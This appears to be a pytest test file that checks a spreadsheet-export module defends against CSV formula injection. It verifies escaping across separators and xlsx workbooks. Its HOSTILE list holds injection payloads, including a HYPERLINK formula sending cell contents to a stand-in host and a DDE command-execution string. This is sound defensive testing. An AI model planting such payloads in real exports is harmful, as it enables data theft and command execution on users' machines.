"""No text in a file for spreadsheets is a formula, and what we wrote reads back."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from outreach_map.spreadsheets import csv_text, fill, harmless, unmarked

HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    'Heron";=1+1',
    "Heron;=1+1;",
    ';"=1+1',
    'Heron; ""\t"=1+1',
    'Heron\n"-1+1',
    "Heron, @SUM(1)",
)
SIGNS = "=+-@＝＋－＠"


def spreadsheet_cells(text: str, separator: str) -> list[str]:
    """Cells of a CSV as a spreadsheet takes them that believes in this separator."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=None), delimiter=separator)
        for cell in row
    ]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_separator_makes_a_formula_of_a_text(text: str, separator: str) -> None:
    written = csv_text(["name", "count"], [[text, 3], [text, None]])
    cells = spreadsheet_cells(written, separator)
    assert cells
    assert not [cell for cell in cells if cell.lstrip()[:1] in tuple(SIGNS)]
    assert not [cell for cell in cells if cell[:1] in ("\t", "\r", "\n")]


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n;, aÅ1\"＝")))
def test_harmless_text_begins_with_no_sign_and_loses_nothing(text: str) -> None:
    safe = harmless(text)
    assert safe.lstrip()[:1] not in tuple(SIGNS)
    assert re.sub("'", "", safe) == re.sub("'", "", text)
    if "'" not in text:
        assert unmarked(safe) == text
    assert harmless(safe) == safe


@given(
    st.lists(
        st.text(alphabet=st.sampled_from("=+-@'\t\r\n;, aÅ1\"＝"), max_size=8),
        min_size=1,
        max_size=4,
    )
)
def test_no_row_of_texts_is_cut_into_a_formula(row: list[str]) -> None:
    written = csv_text(["a", "b", "c", "d"][: len(row)], [row, row])
    for separator in ",;\t":
        for cell in spreadsheet_cells(written, separator):
            assert cell.lstrip()[:1] not in tuple(SIGNS), (separator, cell)


def test_numbers_and_dates_stay_what_they_are() -> None:
    written = csv_text(["lon", "day", "size", "none"], [[-51.2, date(2026, 11, 23), -1, None]])
    assert written == "lon,day,size,none\r\n-51.2,2026-11-23,-1,\r\n"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_workbook_holds_text_and_no_formula(text: str, tmp_path: Path) -> None:
    book = Workbook()
    fill(book.active.cell(1, 1), text.replace("\r", ""))
    fill(book.active.cell(1, 2), -4)
    book.save(tmp_path / "book.xlsx")
    first, second = load_workbook(tmp_path / "book.xlsx").active[1]
    assert first.data_type == "s"
    assert first.value == text.replace("\r", "")
    assert first.quotePrefix is (harmless(first.value) != first.value)
    assert (second.data_type, second.value) == ("n", -4)


@pytest.mark.parametrize("name", ["@home", "-1 floor", "+Plus", "'t Hof", "L'=", "Otter"])
def test_what_was_written_reads_back(name: str) -> None:
    assert unmarked(harmless(name)) == name
